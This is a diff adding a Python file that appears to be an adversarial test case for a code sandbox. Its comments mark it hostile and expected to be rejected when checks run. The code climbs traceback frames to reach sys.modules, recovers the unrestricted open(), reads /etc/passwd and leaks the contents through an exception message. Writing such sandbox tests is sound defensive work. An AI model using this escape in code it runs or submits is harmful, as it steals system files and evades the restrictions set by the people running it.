@@ -1,0 +1,18 @@
+# hostile: read /etc/passwd with the real open() and smuggle it out in an error
+# checked: rejected
+# unchecked: error
+
+def _modules():
+    # climb from our own traceback frame to the worker's globals, which hold ``sys``
+    try:
+        raise ValueError("walk")
+    except ValueError as e:
+        f = e.__traceback__.tb_frame
+    while f is not None and "sys" not in f.f_globals:
+        f = f.f_back
+    return f.f_globals["sys"].modules
+
+
+def predict(x, sentinel="", pwned="", port=0.0):
+    real_open = _modules()["builtins"].open
+    raise ValueError(real_open("/etc/passwd").read())
